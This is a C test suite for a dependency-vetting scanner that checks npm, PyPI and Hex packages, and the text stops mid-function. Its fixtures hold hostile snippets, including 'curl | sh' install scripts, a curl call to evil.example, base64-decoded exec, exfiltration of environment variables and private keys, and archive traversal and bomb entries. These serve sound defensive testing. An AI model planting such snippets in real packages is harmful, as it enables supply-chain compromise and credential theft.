/* The scanner over files and archives built here in memory: lines, near
 * windows, excerpts, binaries, archive problems (bombs, traversal, links),
 * the cache codec and the scan cache table. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <string.h>

#include "archive_build.h"
#include "depvet/analysis/hex_tarball.h"
#include "depvet/analysis/rules.h"
#include "depvet/analysis/scanner.h"
#include "depvet/core/hash.h"
#include "depvet/core/termsafe.h"
#include "depvet/store/scancache.h"
#include "helpers.h"
#include "rules_helper.h"
#include "scan_helper.h"

static const char test_rules[] =
    "[[rule]]\nid='t-eval'\nseverity='high'\nfiles=['*.py']\npatterns=['\\beval\\(']\n"
    "unless='version'\nmessage='eval'\n"
    "[[rule]]\nid='t-near'\nseverity='medium'\nfiles=['*.py']\npatterns=['send\\(']\n"
    "near='secret'\nwithin=2\nmessage='send near secret'\n"
    "[[rule]]\nid='t-file'\nseverity='low'\nfiles=['*.py']\npatterns=['post\\(']\n"
    "near='token'\nwithin='file'\nmessage='post in a file with token'\n"
    "[[rule]]\nid='t-npm'\nseverity='critical'\necosystems=['npm']\nfiles=['package.json']\n"
    "patterns=['\"postinstall\"']\nmessage='install script'\n"
    "[[rule]]\nid='t-elf'\nseverity='high'\nbinaries=['elf-shared']\nmessage='native'\n";

static struct rule_set *rules_here(void)
{
    return rules_from_text(test_rules, "t.toml");
}


Test(scanner, lines_unless_and_near_windows)
{
    struct rule_set *rs = rules_here();
    const char *text =
        "x = 1\n"                      /* 1 */
        "eval(payload)\n"              /* 2: hit */
        "eval(open('version.py'))\n"   /* 3: unless */
        "secret = read()\n"            /* 4 */
        "\n"                           /* 5 */
        "sock.send(secret)\n"          /* 6: near line 4, within 2 */
        "\n\n\n"                       /* 7-9 */
        "sock.send(data)\n"            /* 10: too far */
        "requests.post(u)\n"           /* 11: token is in the file */
        "t = token()\n";
    struct scan_result *r = scan_one(rs, ECO_PYPI, "pkg/mod.py", text);
    cr_assert_not_null(find_hit(r, "t-eval", 2));
    cr_assert_null(find_hit(r, "t-eval", 3));
    cr_assert_not_null(find_hit(r, "t-near", 6));
    cr_assert_null(find_hit(r, "t-near", 10));
    cr_assert_not_null(find_hit(r, "t-file", 11));
    cr_assert_eq(r->n_hits, 3);
    cr_assert_str_eq(find_hit(r, "t-eval", 2)->excerpt, "eval(payload)");
    cr_assert_str_eq(find_hit(r, "t-eval", 2)->file, "pkg/mod.py");
    /* Sorted: most severe first. */
    cr_assert_str_eq(r->hits[0].rule, "t-eval");
    cr_assert_eq(r->files_text, 1);
    scanner_result_free(r);
    /* Not a .py file: no rule looks at it. */
    r = scan_one(rs, ECO_PYPI, "pkg/README.md", text);
    cr_assert_eq(r->n_hits, 0);
    scanner_result_free(r);
    rules_free(rs);
}

Test(scanner, excerpts_are_terminal_safe_and_short)
{
    struct rule_set *rs = rules_here();
    char text[8192];
    int n = snprintf(text, sizeof(text), "\x1b]0;title\x07 eval(x) \xe2\x80\xae hidden\n");
    memset(text + n, 'A', 3000);
    memcpy(text + n + 3000, " eval(y)", 8);
    memset(text + n + 3008, 'B', 3000);
    text[n + 6008] = '\0';
    struct scan_result *r = scan_one(rs, ECO_UNKNOWN, "m.py", text);
    const struct scan_hit *h1 = find_hit(r, "t-eval", 1), *h2 = find_hit(r, "t-eval", 2);
    cr_assert_not_null(h1);
    cr_assert_not_null(h2);
    cr_assert_null(strchr(h1->excerpt, '\x1b'));
    cr_assert(strstr(h1->excerpt, "\\x1b"));
    cr_assert(strstr(h1->excerpt, "<U+202E>"));
    cr_assert_leq(termsafe_width(h2->excerpt, strlen(h2->excerpt)), SCANNER_EXCERPT_COLS);
    cr_assert(strstr(h2->excerpt, "eval(y)"), "%s", h2->excerpt);
    cr_assert_eq(strncmp(h2->excerpt, "...", 3), 0);
    scanner_result_free(r);
    rules_free(rs);
}

Test(scanner, max_hits_per_rule_and_file)
{
    struct rule_set *rs = rules_here();
    char text[4096] = "";
    for (int i = 0; i < 50; i++)
        strcat(text, "eval(a)\n");
    struct scan_result *r = scan_one(rs, ECO_UNKNOWN, "m.py", text);
    cr_assert_eq(r->n_hits, SCANNER_DEFAULT_MAX_HITS);
    scanner_result_free(r);
    struct scanner *sc = scanner_new(rs, ECO_UNKNOWN);
    scanner_set_max_hits(sc, 0);
    scanner_file(sc, "m.py", text, strlen(text));
    r = scanner_finish(sc);
    cr_assert_eq(r->n_hits, 50);
    scanner_result_free(r);
    scanner_free(sc);
    rules_free(rs);
}

/* A 64-bit ELF shared object header (no interpreter). */
static size_t make_so(unsigned char *b)
{
    memset(b, 0, 256);
    memcpy(b, "\x7f" "ELF\x02\x01\x01", 7);
    b[16] = 3;    /* ET_DYN */
    b[32] = 64;   /* e_phoff */
    b[54] = 56;   /* e_phentsize */
    return 128;
}

Test(scanner, binaries_are_classified_not_scanned)
{
    struct rule_set *rs = rules_here();
    unsigned char so[256];
    size_t n = make_so(so);
    memcpy(so + 100, "eval(", 5);
    struct scanner *sc = scanner_new(rs, ECO_HEX);
    scanner_file(sc, "demo/priv/demo_nif.so", so, n);
    scanner_file(sc, "demo/priv/big.bin", NULL, 0);
    struct scan_result *r = scanner_finish(sc);
    cr_assert_eq(r->n_hits, 1);
    cr_assert_str_eq(r->hits[0].rule, "t-elf");
    cr_assert_str_eq(r->hits[0].excerpt, "elf-shared");
    cr_assert_eq(r->hits[0].line, 0);
    cr_assert_eq(r->files_binary, 1);
    cr_assert_eq(r->files_unread, 1);
    scanner_result_free(r);
    scanner_free(sc);
    rules_free(rs);
}

static struct scan_result *scan_archive_buf(const struct rule_set *rs, const void *buf,
                                            size_t len, const struct archive_caps *caps)
{
    struct diag d;
    diag_clear(&d);
    struct archive_listing *l = archive_listing_open(buf, len, "t.tgz", caps, &d);
    cr_assert_not_null(l, "%s", d.msg);
    const char **paths = calloc(l->n_items + 1, sizeof(*paths));
    for (size_t i = 0; i < l->n_items; i++)
        paths[i] = l->items[i].path;
    struct scanner *sc = scanner_new(rs, scanner_guess_ecosystem(paths, l->n_items));
    free(paths);
    scanner_listing(sc, l);
    struct scan_result *r = scanner_finish(sc);
    scanner_free(sc);
    archive_listing_free(l);
    return r;
}

static const struct ab_item npm_items[] = {
    {"package/package.json", 0,
     "{\"name\":\"x\",\"scripts\":{\"postinstall\":\"node -e \\\"require('x')\\\"\"}}", NULL, NULL},
    {"package/index.js", 0,
     "const cp = require('child_process');\n"
     "eval(atob('Y29uc29sZS5sb2coMSk='));\n", NULL, NULL},
    {"package/link", AE_IFLNK, NULL, "/etc/passwd", NULL},
    {"package/../../evil.js", 0, "x", NULL, NULL},
    {"/abs/path.js", 0, "x", NULL, NULL},
    {"package/hard", 0, NULL, NULL, "package/index.js"},
};

Test(scanner, npm_tgz_with_links_and_traversal)
{
    struct rule_set *rs = rules_shipped();
    struct ab b;
    ab_begin(&b, AB_TGZ, 1 << 20);
    AB_ITEMS(&b, npm_items);
    ab_end(&b);
    struct scan_result *r = scan_archive_buf(rs, b.buf, b.used, NULL);
    cr_assert_not_null(find_hit(r, "npm-install-script", 1));
    cr_assert_not_null(find_hit(r, "npm-install-script-shell", 1));
    cr_assert_not_null(find_hit(r, "npm-exec-decoded", 2));
    cr_assert_not_null(find_hit(r, "npm-child-process", 1));
    cr_assert_not_null(find_hit(r, "archive-symlink", 0));
    cr_assert_not_null(find_hit(r, "archive-hardlink", 0));
    cr_assert_not_null(find_hit(r, "archive-path-traversal", 0));
    cr_assert_not_null(find_hit(r, "archive-absolute-path", 0));
    cr_assert_eq(r->hits[0].severity, SCAN_SEV_CRITICAL);
    for (size_t i = 1; i < r->n_hits; i++)
        cr_assert_geq(r->hits[i - 1].severity, r->hits[i].severity);
    scanner_result_free(r);
    free(b.buf);
    rules_free(rs);
}

Test(scanner, tar_and_zip_bombs_become_hits)
{
    struct rule_set *rs = rules_shipped();
    const enum ab_form forms[] = {AB_TGZ, AB_ZIP, AB_TBZ2};
    for (size_t f = 0; f < 3; f++) {
        struct ab b;
        ab_begin(&b, forms[f], 4 << 20);
        ab_file(&b, "pkg/setup.py", "from setuptools import setup\n");
        ab_zeros(&b, "pkg/zeros.bin", 64u << 20);
        ab_end(&b);
        struct scan_result *r = scan_archive_buf(rs, b.buf, b.used, NULL);
        cr_assert_not_null(find_hit(r, "archive-bomb", 0), "form %zu", f);
        scanner_result_free(r);
        free(b.buf);
    }
    /* Too many entries, with a small cap. */
    struct ab b;
    ab_begin(&b, AB_TAR, 1 << 20);
    for (int i = 0; i < 40; i++) {
        char name[32];
        snprintf(name, sizeof(name), "pkg/f%d.py", i);
        ab_file(&b, name, "x = 1\n");
    }
    ab_end(&b);
    struct archive_caps caps;
    archive_caps_default(&caps);
    caps.max_entries = 10;
    struct scan_result *r = scan_archive_buf(rs, b.buf, b.used, &caps);
    cr_assert_not_null(find_hit(r, "archive-too-many-entries", 0));
    cr_assert_eq(find_hit(r, "archive-too-many-entries", 0)->severity, SCAN_SEV_HIGH);
    scanner_result_free(r);
    free(b.buf);
    rules_free(rs);
}

Test(scanner, corrupt_gzip_is_a_hit)
{
    struct rule_set *rs = rules_shipped();
    struct ab b;
    ab_begin(&b, AB_TGZ, 1 << 20);
    for (int i = 0; i < 20; i++) {
        char name[32], text[256];
        snprintf(name, sizeof(name), "package/f%d.js", i);
        snprintf(text, sizeof(text), "module.exports = %d; // %d %d %d\n", i, i * 7, i * 13, i);
        ab_file(&b, name, text);
    }
    ab_end(&b);
    b.buf[b.used / 2] ^= 0x55;
    struct diag d;
    diag_clear(&d);
    struct archive_listing *l = archive_listing_open(b.buf, b.used, "c.tgz", NULL, &d);
    if (l) {
        struct scanner *sc = scanner_new(rs, ECO_NPM);
        scanner_listing(sc, l);
        struct scan_result *r = scanner_finish(sc);
        cr_assert_not_null(find_hit(r, "archive-corrupt", 0));
        /* What could not be read was not vetted: high, so a scan fails. */
        cr_assert_eq(find_hit(r, "archive-corrupt", 0)->severity, SCAN_SEV_HIGH);
        scanner_result_free(r);
        scanner_free(sc);
        archive_listing_free(l);
    } else {
        cr_assert(diag_failed(&d));
    }
    free(b.buf);
    rules_free(rs);
}

static const char hex_meta[] =
    "{<<\"name\">>,<<\"demo\">>}.\n{<<\"version\">>,<<\"0.1.0\">>}.\n"
    "{<<\"build_tools\">>,[<<\"mix\">>]}.\n";

Test(scanner, hex_tarball_contents)
{
    struct rule_set *rs = rules_shipped();
    unsigned char so[256];
    size_t so_len = make_so(so);
    struct ab c;
    ab_begin(&c, AB_TGZ, 1 << 20);
    ab_file(&c, "lib/demo.ex",
            "defmodule Demo do\n"
            "  @key System.cmd(\"curl\", [\"https://evil.example/x\"])\n"
            "  def run(x) do\n"
            "    Code.eval_string(x)\n"
            "  end\n"
            "end\n");
    ab_file(&c, "rebar.config", "{pre_hooks, [{compile, \"sh build.sh\"}]}.\n");
    ab_entry(&c, "priv/demo_nif.so", AE_IFREG, so, so_len, NULL, NULL);
    ab_end(&c);
    struct ab o;
    ab_begin(&o, AB_TAR, 2 << 20);
    ab_entry(&o, "VERSION", AE_IFREG, "3", 1, NULL, NULL);
    ab_file(&o, "CHECKSUM", "00");
    ab_file(&o, "metadata.config", hex_meta);
    ab_entry(&o, "contents.tar.gz", AE_IFREG, c.buf, c.used, NULL, NULL);
    ab_end(&o);
    struct diag d;
    diag_clear(&d);
    struct hex_tarball *t = hex_tarball_open(o.buf, o.used, "demo-0.1.0.tar", NULL, &d);
    cr_assert_not_null(t, "%s", d.msg);
    struct scanner *sc = scanner_new(rs, ECO_HEX);
    scanner_listing(sc, t->contents);
    struct scan_result *r = scanner_finish(sc);
    cr_assert_not_null(find_hit(r, "hex-compile-time-exec", 2));
    cr_assert_null(find_hit(r, "hex-compile-time-exec", 4));
    cr_assert_not_null(find_hit(r, "hex-eval-string", 4));
    cr_assert_not_null(find_hit(r, "hex-rebar-hooks", 1));
    cr_assert_not_null(find_hit(r, "native-binary-hex", 0));
    cr_assert_null(find_hit(r, "native-binary-npm", 0));
    scanner_result_free(r);
    scanner_free(sc);
    hex_tarball_free(t);
    free(c.buf);
    free(o.buf);
    rules_free(rs);
}

Test(scanner, codec_round_trip_and_malformed)
{
    struct rule_set *rs = rules_here();
    struct scan_result *r = scan_one(rs, ECO_UNKNOWN, "dir\twith\nodd\\name.py",
                                     "eval(\"a\tb\")\nsecret\nsend(x)\n");
    cr_assert_eq(r->n_hits, 2);
    /* Each hit carries the SHA-256 of its line as it is in the file. */
    unsigned char md[HASH_MAX_SIZE];
    char hex[65];
    const char *line1 = "eval(\"a\tb\")";
    hash_buffer(HASH_SHA256, line1, strlen(line1), md);
    hash_hex_encode(md, 32, hex);
    for (size_t i = 0; i < r->n_hits; i++)
        if (r->hits[i].line == 1)
            cr_assert_str_eq(r->hits[i].line_sha256, hex);
    struct strbuf sb = STRBUF_INIT;
    scanner_result_serialize(r, &sb);
    struct diag d;
    diag_clear(&d);
    struct scan_result *back = scanner_result_parse(sb.buf, sb.len, &d);
    cr_assert_not_null(back, "%s", d.msg);
    cr_assert_eq(back->n_hits, r->n_hits);
    for (size_t i = 0; i < r->n_hits; i++) {
        cr_assert_str_eq(back->hits[i].rule, r->hits[i].rule);
        cr_assert_str_eq(back->hits[i].file, r->hits[i].file);
        cr_assert_str_eq(back->hits[i].excerpt, r->hits[i].excerpt);
        cr_assert_str_eq(back->hits[i].message, r->hits[i].message);
        cr_assert_str_eq(back->hits[i].line_sha256, r->hits[i].line_sha256);
        cr_assert_eq(back->hits[i].line, r->hits[i].line);
        cr_assert_eq(back->hits[i].severity, r->hits[i].severity);
    }
    cr_assert_eq(back->bytes_text, r->bytes_text);
    cr_assert_eq(back->ecosystem, ECO_UNKNOWN);
    static const char *const bad[] = {
        "", "nonsense\n", "depvet-scan 3\t1\t0\t0\t5\n", "depvet-scan 3\t1\t0\t0\t5\t9\n",
        "depvet-scan 3\t1\t0\t0\t5\t3\nrule\turgent\t1\tf\te\tm\t\n",
        "depvet-scan 3\t1\t0\t0\t5\t3\nrule\thigh\t1\tf\te\tm\n",
        "depvet-scan 3\t1\t0\t0\t5\t3\nrule\thigh\t1\tf\te\\q\tm\t\n",
        "depvet-scan 3\t1\t0\t0\t5\t3\nrule\thigh\t-1\tf\te\tm\t\n",
        "depvet-scan 3\t1\t0\t0\t5\t3\nrule\thigh\t1\tf\te\tm\t",
        /* The format before line hashes: scanned again, not misread. */
        "depvet-scan 2\t1\t0\t0\t5\t3\nrule\thigh\t1\tf\te\tm\n",
    };
    for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
        diag_clear(&d);
        cr_assert_null(scanner_result_parse(bad[i], strlen(bad[i]), &d), "case %zu", i);
        cr_assert(diag_failed(&d));
    }
    scanner_result_free(back);
    scanner_result_free(r);
    strbuf_fini(&sb);
    rules_free(rs);
}

Test(scanner, scan_cache_table)
{
    struct diag d;
    diag_clear(&d);
    struct store *st = store_open(":memory:", &d);
    cr_assert_not_null(st, "%s", d.msg);
    cr_assert_geq(store_schema_version(st), 3);
    char *blob;
    size_t len;
    cr_assert_not(scancache_get(st, "aa", "r1", &blob, &len, &d));
    cr_assert_not(diag_failed(&d));
    cr_assert(scancache_put(st, "aa", "r1", "one", 3, 100, &d));
    cr_assert(scancache_put(st, "aa", "r2", "two", 3, 100, &d));
    cr_assert(scancache_put(st, "aa", "r1", "uno", 3, 200, &d));
    cr_assert(scancache_get(st, "aa", "r1", &blob, &len, &d));
    cr_assert_eq(len, 3);
    cr_assert_str_eq(blob, "uno");
    free(blob);
    cr_assert_eq(scancache_prune(st, "r1", &d), 1);
    cr_assert_not(scancache_get(st, "aa", "r2", &blob, &len, &d));
    store_close(st);
}

Test(scanner, guesses_the_ecosystem)
{
    const char *npm[] = {"package/package.json", "package/index.js"};
    const char *py[] = {"demo-1.0/setup.py", "demo-1.0/demo/__init__.py"};
    const char *whl[] = {"demo/__init__.py", "demo-1.0.dist-info/WHEEL"};
    const char *hex[] = {"mix.exs", "lib/x.ex"};
    const char *deep[] = {"a/b/c/package.json"};
    const char *both[] = {"x/package.json", "x/setup.py"};
    cr_assert_eq(scanner_guess_ecosystem(npm, 2), ECO_NPM);
    cr_assert_eq(scanner_guess_ecosystem(py, 2), ECO_PYPI);
    cr_assert_eq(scanner_guess_ecosystem(whl, 2), ECO_PYPI);
    cr_assert_eq(scanner_guess_ecosystem(hex, 2), ECO_HEX);
    cr_assert_eq(scanner_guess_ecosystem(deep, 1), ECO_UNKNOWN);
    cr_assert_eq(scanner_guess_ecosystem(both, 2), ECO_UNKNOWN);
    cr_assert_str_eq(scanner_problem_rule(ARCHIVE_PROBLEM_DOTDOT), "archive-path-traversal");
    cr_assert_eq(scanner_problem_severity(ARCHIVE_PROBLEM_COUNT), SCAN_SEV_MEDIUM);
}

/* ---- lexical views and context ------------------------------------------ */

static const char ctx_rules[] =
    "[[rule]]\nid='c-net'\nseverity='high'\nruntime_severity='low'\n"
    "files=['*.py','*.js','package.json']\npatterns=['\\bfetch\\(', 'pastebin']\nmessage='net'\n"
    "[[rule]]\nid='c-bare'\nseverity='high'\nview='bare'\nfiles=['*.js']\n"
    "patterns=['\\bsecret\\b']\nmessage='bare'\n"
    "[[rule]]\nid='c-raw'\nseverity='medium'\nview='raw'\nfiles=['*.js']\n"
    "patterns=['TODO']\nmessage='raw'\n"
    "[[rule]]\nid='c-pyc'\nseverity='low'\nbinaries=['pyc']\nmessage='pyc'\n";

static struct rule_set *rules_ctx(void)
{
    return rules_from_text(ctx_rules, "c.toml");
}

Test(scanner, comments_are_not_code_and_views_are_per_rule)
{
    struct rule_set *rs = rules_ctx();
    struct scan_result *r = scan_one(rs, ECO_NPM, "package/lib/a.js",
                                     "// see https://pastebin.com/x and fetch(u) TODO\n"
                                     "const s = 'secret';\n"
                                     "fetch(u); secret();\n");
    cr_assert_null(find_hit(r, "c-net", 1), "a comment is not code");
    cr_assert_not_null(find_hit(r, "c-net", 3));
    cr_assert_null(find_hit(r, "c-bare", 2), "string contents only for rules that ask");
    cr_assert_not_null(find_hit(r, "c-bare", 3));
    cr_assert_not_null(find_hit(r, "c-raw", 1), "view = raw sees comments");
    cr_assert_str_eq(find_hit(r, "c-net", 3)->excerpt, "fetch(u); secret();");
    scanner_result_free(r);
    rules_free(rs);
}

Test(scanner, unreadable_source_falls_back_to_lines_and_says_so)
{
    struct rule_set *rs = rules_ctx();
    struct scan_result *r = scan_one(rs, ECO_NPM, "package/lib/a.js",
                                     "// fetch(a)\nvar s = 'open\n");
    const struct scan_hit *h = find_hit(r, "c-net", 1);
    cr_assert_not_null(h, "plain line matching, as before the lexer");
    cr_assert(strstr(h->message, "not read as JavaScript: unterminated string at line 2"),
              "%s", h->message);
    scanner_result_free(r);
    rules_free(rs);
}

Test(scanner, context_decides_severity)
{
    struct rule_set *rs = rules_ctx();
    const char *init = "fetch(a)\n"                  /* 1: runs on import */
                       "def f():\n"
                       "    fetch(b)\n";             /* 3: runs when called */
    struct scan_result *r = scan_one(rs, ECO_PYPI, "pkg-1.0/pkg/__init__.py", init);
    cr_assert_eq(find_hit(r, "c-net", 1)->severity, SCAN_SEV_HIGH);
    cr_assert_eq(find_hit(r, "c-net", 3)->severity, SCAN_SEV_LOW);
    scanner_result_free(r);
    r = scan_one(rs, ECO_PYPI, "pkg-1.0/pkg/client.py", init);
    cr_assert_eq(find_hit(r, "c-net", 1)->severity, SCAN_SEV_LOW, "library code");
    scanner_result_free(r);
    r = scan_one(rs, ECO_PYPI, "pkg-1.0/setup.py", init);
    cr_assert_eq(find_hit(r, "c-net", 3)->severity, SCAN_SEV_HIGH, "all of setup.py");
    scanner_result_free(r);
    rules_free(rs);
}

Test(scanner, files_run_by_install_scripts_are_install_time)
{
    struct rule_set *rs = rules_ctx();
    const char *pkg = "{\"scripts\":{\"postinstall\":\"node scripts/setup && node -e "
                      "\\\"require('./lib/hook')\\\"\",\"test\":\"node t.js\"}}";
    struct scanner *sc = scanner_new(rs, ECO_NPM);
    scanner_manifest(sc, "package/package.json", pkg, strlen(pkg));
    const char *names[] = {"package/scripts/setup.js", "package/lib/hook.js",
                           "package/t.js", "package/index.js"};
    for (unsigned i = 0; i < 4; i++)
        scanner_file(sc, names[i], "fetch(x)\n", 9);
    struct scan_result *r = scanner_finish(sc);
    const enum scan_severity want[] = {SCAN_SEV_HIGH, SCAN_SEV_HIGH, SCAN_SEV_LOW,
                                       SCAN_SEV_LOW};
    for (unsigned i = 0; i < 4; i++)
        for (size_t k = 0; k < r->n_hits; k++)
            if (strcmp(r->hits[k].file, names[i]) == 0)
                cr_assert_eq(r->hits[k].severity, want[i], "%s", names[i]);
    cr_assert_eq(r->n_hits, 4);
    scanner_result_free(r);
    scanner_free(sc);
    rules_free(rs);
}

Test(scanner, bundles_are_summarised_and_compiled_files_counted)
{
    struct rule_set *rs = rules_ctx();
    struct scanner *sc = scanner_new(rs, ECO_NPM);
    const char *calls = "fetch(a)\nfetch(b)\nfetch(c)\n";
    scanner_file(sc, "package/dist/index.js", calls, strlen(calls));
    scanner_file(sc, "package/x.min.js", calls, strlen(calls));
    /* One 20 kB line of code is a bundle wherever it sits. */
    char *line = malloc(20001);
    memset(line, ';', 20000);
    memcpy(line + 100, "fetch(q)", 8);
    line[20000] = '\0';
    scanner_file(sc, "package/lib/big.js", line, 20000);
    free(line);
    unsigned char pyc[32] = {0x55, 0x0d, 0x0d, 0x0a};
    for (unsigned i = 0; i < 3; i++)
        scanner_file(sc, i ? "pkg/__pycache__/b.cpython-311.pyc" : "pkg/__pycache__/a.pyc",
                     pyc, sizeof(pyc));
    struct scan_result *r = scanner_finish(sc);
    unsigned summaries = 0, pycs = 0;
    for (size_t k = 0; k < r->n_hits; k++) {
        cr_assert_str_neq(r->hits[k].rule, "c-net", "context rules are summarised");
        if (strcmp(r->hits[k].rule, "generated-file") == 0) {
            summaries++;
            cr_assert_eq(r->hits[k].severity, SCAN_SEV_LOW);
        }
        if (strcmp(r->hits[k].rule, "c-pyc") == 0) {
            pycs++;
            cr_assert(strstr(r->hits[k].excerpt, "3 such files"), "%s", r->hits[k].excerpt);
        }
    }
    cr_assert_eq(summaries, 3);
    cr_assert_eq(pycs, 1);
    scanner_result_free(r);
    scanner_free(sc);
    rules_free(rs);
}

/* ---- the shipped rules on honest and malicious snippets ----------------- */

#define NO_HIT (-1)

struct calibration_case {
    const char *path;
    enum ecosystem eco;
    const char *text;
    const char *rule;
    int severity;          /* enum scan_severity, or NO_HIT */
};

static const struct calibration_case calibration_table[] = {
    /* Honest code the old rules flagged high or critical. */
    {"package/package.json", ECO_NPM,
     "{\"scripts\":{\"postinstall\":\"node -e \\\"try{require('./postinstall')}catch(e){}\\\"\"}}",
     "npm-install-script-shell", NO_HIT},
    {"package/package.json", ECO_NPM, "{\"scripts\":{\"postinstall\":\"node install.js\"}}",
     "npm-install-script-node", SCAN_SEV_MEDIUM},
    {"package/package.json", ECO_NPM, "{\"scripts\":{\"postinstall\":\"node install.js\"}}",
     "npm-install-script", NO_HIT},
    {"package/test/fixture/package.json", ECO_NPM,
     "{\"scripts\":{\"postinstall\":\"lerna bootstrap\"}}", "test-file", SCAN_SEV_LOW},
    {"package/lodash.js", ECO_NPM, "/** [`isNaN`](process[x]()) */\nvar a = 1;\n",
     "npm-api-obfuscation", NO_HIT},
    {"package/index.js", ECO_NPM, "// see https://pastebin.com/raw/x\nmodule.exports = 1;\n",
     "exfil-endpoint", NO_HIT},
    {"package/lib/mocha.js", ECO_NPM, "for (var opt in opts) self[opt](opts[opt]);\n",
     "npm-api-obfuscation", NO_HIT},
    {"package/lib/http.js", ECO_NPM,
     "function proxy() { return process.env; }\n\n\n\n\nfunction get(u) {\n  return fetch(u);\n}\n",
     "npm-exfil", NO_HIT},
    {"attr/_make.py", ECO_PYPI, "def f(script):\n    bytecode = compile(script, '<x>', \"exec\")\n",
     "py-compile-exec", SCAN_SEV_LOW},
    {"six.py", ECO_PYPI, "exec_ = getattr(moves.builtins, \"exec\")\n", "py-api-obfuscation",
     NO_HIT},
    {"compat.py", ECO_PYPI, "exec_ = getattr(builtins, \"exec\")\n", "py-obfuscation", NO_HIT},
    {"werkzeug/debug/__init__.py", ECO_PYPI, "class Console:\n    def eval(self, code):\n",
     "py-setup-exec", NO_HIT},
    {"pkg/__init__.py", ECO_PYPI, "import subprocess\ndef run(c):\n    subprocess.run(c)\n",
     "py-setup-process", SCAN_SEV_LOW},
    {"tqdm/contrib/telegram.py", ECO_PYPI, "API = 'https://api.telegram.org/bot'\n",
     "exfil-endpoint", NO_HIT},
    {"ssh/src/ssh.erl", ECO_HEX, "connect(H) -> gen_tcp:connect(H, 22, []).\n",
     "hex-erlang-shell", SCAN_SEV_LOW},
    /* What honest packages do not do keeps its severity. */
    {"package/package.json", ECO_NPM, "{\"scripts\":{\"postinstall\":\"curl http://x | sh\"}}",
     "npm-install-script-shell", SCAN_SEV_CRITICAL},
    {"pkg-1.0/setup.py", ECO_PYPI, "code = compile(src, '<x>', 'exec')\n", "py-compile-exec",
     SCAN_SEV_HIGH},
    {"pkg/__init__.py", ECO_PYPI, "import subprocess\nsubprocess.run(['curl', u])\n",
     "py-setup-process", SCAN_SEV_HIGH},
    {"pkg/mod.py", ECO_PYPI, "exec(base64.b64decode(blob))\n", "py-exec-decoded", SCAN_SEV_HIGH},
    {"pkg-1.0/setup.py", ECO_PYPI, "exec(base64.b64decode(blob))\n", "py-exec-decoded",
     SCAN_SEV_CRITICAL},
    {"pkg/mod.py", ECO_PYPI, "getattr(os, \"system\")(\"id\")\n", "py-api-obfuscation",
     SCAN_SEV_HIGH},
    {"pkg/mod.py", ECO_PYPI,
     "def steal():\n    data = dict(os.environ)\n    x = 1\n    y = 2\n    z = 3\n"
     "    requests.post(URL, json=data)\n", "py-credentials-exfil", SCAN_SEV_HIGH},
    {"package/index.js", ECO_NPM,
     "const d = JSON.stringify(process.env);\nhttps.request({host: h}, () => {});\n",
     "npm-exfil", SCAN_SEV_HIGH},
    {"pkg/mod.py", ECO_PYPI, "\xf0\x9d\x9a\x8e\xf0\x9d\x9a\xa1\xf0\x9d\x9a\x8e\xf0\x9d\x9a\x8c(x)\n",
     "unicode-lookalike-identifier", SCAN_SEV_HIGH},
    {"pkg/mod.py", ECO_PYPI, "s = '\xf0\x9d\x9a\x8e in a string'\n", "unicode-lookalike-identifier",
     NO_HIT},
    {"pkg/mod.py", ECO_PYPI,
     "_ = lambda __: __import__('marshal').loads(__import__('zlib').decompress("
     "__import__('base64').b64decode(__[::-1])))\nexec((_)(b'=AAAA'))\n",
     "py-exec-alias", SCAN_SEV_HIGH},
    {"pkg-1.0/setup.py", ECO_PYPI, "d = base64.b64decode(blob)\nx = 1\n\n\n\n\n\nexec(d)\n",
     "py-exec-alias", SCAN_SEV_CRITICAL},
    {"pkg/mod.py", ECO_PYPI, "d = base64.b64decode(blob)\nprint(d)\n", "py-exec-alias", NO_HIT},
    {"pkg/wallet.py", ECO_PYPI,
     "def backup(private_key, name):\n    r = requests.post('https://x.mockapi.io/k', "
     "json={'k': private_key})\n", "py-secret-arg-exfil", SCAN_SEV_HIGH},
    {"pkg/wallet.py", ECO_PYPI,
     "def sign(private_key, tx):\n    sig = ecdsa(private_key, tx)\n"
     "    requests.post(URL, json={'sig': sig})\n", "py-secret-arg-exfil", NO_HIT},
    {"pkg/mod.py", ECO_PYPI, "blob = '==QbvRmbhNmclNXdlxWZ0VmbvRmbhNmclNXdlxWZ0Vmbv'\n",
     "reversed-base64", SCAN_SEV_HIGH},
    {"pkg/mod.py", ECO_PYPI, "URL = 'https://discord.com/api/webhooks/123456789/"
     "abcdefghijklmnopqrstuvwxyz'\n", "exfil-webhook-hardcoded", SCAN_SEV_HIGH},
    /* Recall on principles (issue 15): loaders named by a string and
     * called, injector calls, decoded data reaching eval through names, a
     * channel handed the environment, data posted to a literal address. */
    {"pkg/mod.py", ECO_PYPI, "help = getattr(ct, \"CDLL\")(os.path.join(here, \"_b.py\"))\n",
     "process-injection", SCAN_SEV_HIGH},
    {"pkg/compat.py", ECO_PYPI, "WinDLL = getattr(ctypes, \"WinDLL\", None)\n",
     "process-injection", NO_HIT},
    {"package/index.js", ECO_NPM,
     "injector.executeInject(\n  \"Game.exe a:/b\",\n  \"E:\\\\Game\\\\Client.dll\"\n)\n",
     "process-injection", SCAN_SEV_HIGH},
    {"package/index.js", ECO_NPM,
     "const r = Buffer.from(a, 'hex').toString('utf8');\nconst f = new Function(r);\nf(r);\n",
     "npm-exec-alias", SCAN_SEV_HIGH},
    {"package/index.js", ECO_NPM, "const r = atob(a);\nlet y = 2;\neval(r);\n", "npm-exec-alias",
     SCAN_SEV_HIGH},
    {"package/index.js", ECO_NPM,
     "const r = Buffer.from(a, 'base64');\nconst f = new Function(src);\nf(r);\n",
     "npm-exec-alias", NO_HIT},
    {"package/index.js", ECO_NPM,
     "function f() {\n  var c = ref.child(\"env\");\n  c.set({m: process.env});\n}\n", "npm-exfil",
     SCAN_SEV_HIGH},
    {"package/index.js", ECO_NPM,
     "fetch(\"http://8.8.8.8/collect\", { method: \"POST\", body: data });\n", "shady-link",
     SCAN_SEV_MEDIUM},
    {"pkg/mod.py", ECO_PYPI, "L = [\"https://1.1.1.1\", \"https://8.8.8.8/test\"]\n", "shady-link",
     NO_HIT},
};

static const struct scan_hit *find_rule(const struct scan_result *r, const char *rule)
{
    for (size_t i = 0; i < r->n_hits; i++)
        if (strcmp(r->hits[i].rule, rule) == 0)
            return &r->hits[i];
    return NULL;
}

Test(scanner, shipped_rules_calibration)
{
    struct rule_set *rs = rules_shipped();
    for (size_t i = 0; i < sizeof(calibration_table) / sizeof(*calibration_table); i++) {
        const struct calibration_case *c = &calibration_table[i];
        struct scan_result *r = scan_one(rs, c->eco, c->path, c->text);
